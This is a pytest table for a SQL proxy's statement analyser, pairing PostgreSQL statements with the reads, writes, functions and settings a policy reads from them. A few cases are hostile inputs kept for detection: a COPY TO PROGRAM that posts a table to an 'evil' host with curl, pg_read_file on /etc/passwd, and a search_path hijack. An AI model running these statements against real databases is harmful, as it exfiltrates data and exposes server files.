"""Table-driven queries, DML, COPY, wrapped statements and session commands: one statement
in, every effect a policy reads out, compared exactly (anything not listed must be empty)."""

from __future__ import annotations

import pytest

from proxyworker.analysis import SettingChange, StatementKind
from tests.analysis.expect import Case, case_id, check

K = StatementKind

QUERIES = [
    Case("SELECT 1", K.SELECT, "SELECT"),
    Case("SELECT * FROM users WHERE id = 1", K.SELECT, "SELECT", reads=("users",)),
    Case(
        "select * from public.users u join orders o on o.uid = u.id",
        K.SELECT,
        "SELECT",
        reads=("public.users", "orders"),
    ),
    Case(
        "SELECT * FROM (SELECT * FROM a) s, LATERAL (SELECT * FROM b WHERE b.x = s.x) l",
        K.SELECT,
        "SELECT",
        reads=("a", "b"),
    ),
    Case(
        "SELECT (SELECT max(v) FROM t1), f(1) FROM t2"
        " WHERE EXISTS (SELECT 1 FROM t3) AND x IN (SELECT y FROM t4)",
        K.SELECT,
        "SELECT",
        reads=("t1", "t2", "t3", "t4"),
        functions=("max", "f"),
    ),
    Case(
        "SELECT * FROM generate_series(1, 3) g, unnest(ARRAY[1]) u",
        K.SELECT,
        "SELECT",
        functions=("generate_series", "unnest"),
    ),
    Case(
        "SELECT * FROM x1 UNION SELECT * FROM x2 INTERSECT (SELECT * FROM x3 EXCEPT TABLE x4)",
        K.SELECT,
        "SELECT",
        reads=("x1", "x2", "x3", "x4"),
    ),
    Case("VALUES (1), ((SELECT 2 FROM t))", K.SELECT, "SELECT", reads=("t",)),
    Case("TABLE secret", K.SELECT, "SELECT", reads=("secret",)),
    Case("SELECT * FROM ONLY parent", K.SELECT, "SELECT", reads=("parent",)),
    # FOR UPDATE OF names an alias, not a relation.
    Case("SELECT * FROM users u FOR UPDATE OF u", K.SELECT, "SELECT", reads=("users",)),
    Case("SELECT * FROM active_users_view", K.SELECT, "SELECT", reads=("active_users_view",)),
    Case(
        "SELECT count(*) FILTER (WHERE f(x)) OVER (PARTITION BY g(y)) FROM t",
        K.SELECT,
        "SELECT",
        reads=("t",),
        functions=("count", "f", "g"),
    ),
    Case(
        "SELECT CASE WHEN a THEN (SELECT 1 FROM c1) ELSE coalesce(b, (SELECT 2 FROM c2)) END"
        " FROM t",
        K.SELECT,
        "SELECT",
        reads=("c1", "c2", "t"),
    ),
    Case(
        "SELECT * FROM XMLTABLE('/r' PASSING (SELECT doc FROM docs) COLUMNS a int)",
        K.SELECT,
        "SELECT",
        reads=("docs",),
    ),
    Case("SELECT * FROM t TABLESAMPLE bernoulli (10)", K.SELECT, "SELECT", reads=("t",)),
    # A SELECT calling functions with side effects: the functions are what matters.
    Case(
        "SELECT pg_read_file('/etc/passwd'), pg_catalog.pg_ls_dir('.'), lo_import('/x')",
        K.SELECT,
        "SELECT",
        functions=("pg_read_file", "pg_catalog.pg_ls_dir", "lo_import"),
    ),
    Case(
        "SELECT set_config('search_path', 'evil, public', false)",
        K.SELECT,
        "SELECT",
        functions=("set_config",),
        settings=(SettingChange("search_path", "evil, public"),),
    ),
    Case(
        "SELECT pg_catalog.set_config('search_path', current_setting('x'), true)",
        K.SELECT,
        "SELECT",
        functions=("pg_catalog.set_config", "current_setting"),
        settings=(SettingChange("search_path", None, is_local=True, exact=False),),
    ),
    Case(
        "SELECT * INTO newtab FROM oldtab",
        K.DDL,
        "SELECT INTO",
        reads=("oldtab",),
        writes=("newtab",),
        ddl=("newtab",),
    ),
]

CTES = [
    Case(
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        K.SELECT,
        "SELECT",
        writes=("users",),
        unbounded=("users",),
    ),
    Case(
        "WITH u AS (UPDATE accounts SET b = 0 WHERE id = 1 RETURNING *)"
        " INSERT INTO log SELECT * FROM u",
        K.INSERT,
        "INSERT",
        writes=("accounts", "log"),
    ),
    Case("WITH users AS (SELECT 1 AS id) SELECT * FROM users", K.SELECT, "SELECT"),
    # Without RECURSIVE a CTE cannot see itself: the inner users is the table.
    Case(
        "WITH users AS (SELECT * FROM users) SELECT * FROM users",
        K.SELECT,
        "SELECT",
        reads=("users",),
    ),
    Case(
        "WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b",
        K.SELECT,
        "SELECT",
        reads=("b",),
    ),
    Case(
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5)"
        " SELECT * FROM t",
        K.SELECT,
        "SELECT",
    ),
    # A CTE is visible only inside the query that defines it.
    Case(
        "SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) s, t",
        K.SELECT,
        "SELECT",
        reads=("t",),
    ),
    Case("WITH x AS (SELECT 1) SELECT * FROM public.x", K.SELECT, "SELECT", reads=("public.x",)),
    # The target of a DML statement is never a CTE.
    Case(
        "WITH x AS (SELECT 1) DELETE FROM x",
        K.DELETE,
        "DELETE",
        writes=("x",),
        unbounded=("x",),
    ),
    Case(
        "SELECT * FROM a WHERE id IN (WITH d AS (DELETE FROM b RETURNING id) SELECT id FROM d)",
        K.SELECT,
        "SELECT",
        reads=("a",),
        writes=("b",),
        unbounded=("b",),
    ),
]

DML = [
    Case(
        "UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 42",
        K.UPDATE,
        "UPDATE",
        writes=("pgbench_accounts",),
        flags=("has_where",),
    ),
    Case(
        "UPDATE users SET admin = true",
        K.UPDATE,
        "UPDATE",
        writes=("users",),
        unbounded=("users",),
    ),
    Case("DELETE FROM users", K.DELETE, "DELETE", writes=("users",), unbounded=("users",)),
    Case(
        "DELETE FROM sessions s USING users u WHERE s.uid = u.id AND u.banned RETURNING s.id",
        K.DELETE,
        "DELETE",
        reads=("users",),
        writes=("sessions",),
        flags=("has_where", "returning"),
    ),
    Case(
        "UPDATE t SET v = (SELECT max(v) FROM u) FROM w WHERE t.id = w.id",
        K.UPDATE,
        "UPDATE",
        reads=("u", "w"),
        writes=("t",),
        functions=("max",),
        flags=("has_where",),
    ),
    Case(
        "DELETE FROM t WHERE CURRENT OF c", K.DELETE, "DELETE", writes=("t",), flags=("has_where",)
    ),
    Case("INSERT INTO t (a) VALUES (1)", K.INSERT, "INSERT", writes=("t",)),
    Case("INSERT INTO t SELECT * FROM s", K.INSERT, "INSERT", reads=("s",), writes=("t",)),
    Case(
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = (SELECT max(v) FROM u)"
        " RETURNING *",
        K.INSERT,
        "INSERT",
        reads=("u",),
        writes=("t",),
        functions=("max",),
        flags=("returning",),
    ),
    Case("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", K.INSERT, "INSERT", writes=("t",)),
    Case(
        "MERGE INTO accounts a USING staged s ON a.id = s.id"
        " WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
        K.MERGE,
        "MERGE",
        reads=("staged",),
        writes=("accounts",),
    ),
    Case(
        "MERGE INTO t USING (SELECT * FROM src) s ON t.id = s.id WHEN MATCHED THEN DELETE"
        " RETURNING t.*",
        K.MERGE,
        "MERGE",
        reads=("src",),
        writes=("t",),
        flags=("returning",),
    ),
]

COPIES = [
    Case("COPY users TO STDOUT", K.COPY, "COPY", reads=("users",)),
    Case("COPY users (id, email) FROM STDIN", K.COPY, "COPY", writes=("users",)),
    Case(
        "COPY users FROM '/tmp/u.csv'",
        K.COPY,
        "COPY",
        writes=("users",),
        flags=("copy_server_file",),
    ),
    Case(
        "COPY users TO PROGRAM 'curl -d @- https://evil'",
        K.COPY,
        "COPY",
        reads=("users",),
        flags=("copy_program",),
    ),
    Case("COPY (SELECT * FROM secret) TO STDOUT", K.COPY, "COPY", reads=("secret",)),
    Case(
        "COPY (DELETE FROM users RETURNING *) TO STDOUT",
        K.COPY,
        "COPY",
        writes=("users",),
        unbounded=("users",),
    ),
    Case("COPY t FROM STDIN WHERE f(a)", K.COPY, "COPY", writes=("t",), functions=("f",)),
]

WRAPPERS = [
    Case("EXPLAIN SELECT * FROM t", K.EXPLAIN, "EXPLAIN", reads=("t",)),
    Case(
        "EXPLAIN ANALYZE DELETE FROM users",
        K.EXPLAIN,
        "EXPLAIN",
        writes=("users",),
        unbounded=("users",),
        flags=("executes",),
    ),
    Case(
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2",
        K.EXPLAIN,
        "EXPLAIN",
        writes=("t",),
        flags=("executes",),
    ),
    # Not run, but still reported: a policy may refuse even to plan it.
    Case(
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        K.EXPLAIN,
        "EXPLAIN",
        writes=("t",),
        unbounded=("t",),
    ),
    Case("EXPLAIN (ANALYZE 0, COSTS off) SELECT 1", K.EXPLAIN, "EXPLAIN"),
    Case(
        "PREPARE del(int) AS DELETE FROM users WHERE id = $1",
        K.PREPARE,
        "PREPARE",
        writes=("users",),
    ),
    Case("EXECUTE del(42)", K.EXECUTE, "EXECUTE"),
    Case(
        "EXECUTE p((SELECT max(id) FROM secrets))",
        K.EXECUTE,
        "EXECUTE",
        reads=("secrets",),
        functions=("max",),
    ),
    Case("DEALLOCATE del", K.DEALLOCATE, "DEALLOCATE"),
    Case("DEALLOCATE ALL", K.DEALLOCATE, "DEALLOCATE ALL"),
    Case(
        "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM secret",
        K.DECLARE,
        "DECLARE CURSOR",
        reads=("secret",),
    ),
    Case("FETCH FORWARD 10 FROM c", K.FETCH, "FETCH"),
    Case("MOVE LAST IN c", K.FETCH, "MOVE"),
    Case("CLOSE c", K.CLOSE, "CLOSE CURSOR"),
    Case("CLOSE ALL", K.CLOSE, "CLOSE CURSOR ALL"),
]

SESSION = [
    Case("BEGIN", K.TRANSACTION, "BEGIN"),
    Case("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", K.TRANSACTION, "START TRANSACTION"),
    Case("END", K.TRANSACTION, "COMMIT"),
    Case("ABORT", K.TRANSACTION, "ROLLBACK"),
    Case("ROLLBACK TO s1", K.TRANSACTION, "ROLLBACK"),
    Case("COMMIT PREPARED 'gid'", K.TRANSACTION, "COMMIT PREPARED"),
    Case(
        "SET search_path = app, public",
        K.SET,
        "SET",
        settings=(SettingChange("search_path", "app, public"),),
    ),
    # Server flattening: each element goes through quote_identifier().
    Case(
        'SET search_path TO "App", \'x y\', "$user", public',
        K.SET,
        "SET",
        settings=(SettingChange("search_path", '"App", "x y", "$user", public'),),
    ),
    Case(
        "SET LOCAL search_path = DEFAULT",
        K.SET,
        "SET",
        settings=(SettingChange("search_path", None, is_local=True, reset=True),),
    ),
    Case(
        "RESET search_path",
        K.SET,
        "RESET",
        settings=(SettingChange("search_path", None, reset=True),),
    ),
    Case("RESET ALL", K.SET, "RESET", settings=(SettingChange(None, None, reset=True),)),
    Case(
        "SET sqlproxy.dry_run = on",
        K.SET,
        "SET",
        settings=(SettingChange("sqlproxy.dry_run", "on"),),
    ),
    Case(
        "SET SCHEMA 'audit'",
        K.SET,
        "SET",
        settings=(SettingChange("search_path", "audit"),),
    ),
    Case("SET ROLE admin", K.SET, "SET", settings=(SettingChange("role", "admin"),)),
    Case(
        "SET SESSION AUTHORIZATION bob",
        K.SET,
        "SET",
        settings=(SettingChange("session_authorization", "bob"),),
    ),
    Case("SET TIME ZONE 'UTC'", K.SET, "SET", settings=(SettingChange("timezone", "UTC"),)),
    Case(
        "SET statement_timeout = 5000",
        K.SET,
        "SET",
        settings=(SettingChange("statement_timeout", "5000"),),
    ),
    Case("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", K.SET, "SET"),
    Case("SHOW search_path", K.UTILITY, "SHOW"),
    Case(
        "DISCARD ALL", K.UTILITY, "DISCARD ALL", settings=(SettingChange(None, None, reset=True),)
    ),
    Case("LISTEN jobs", K.UTILITY, "LISTEN"),
]

CASES = QUERIES + CTES + DML + COPIES + WRAPPERS + SESSION


@pytest.mark.parametrize("case", CASES, ids=case_id)
def test_it_reports_exactly_what_the_statement_does(case: Case) -> None:
    check(case)
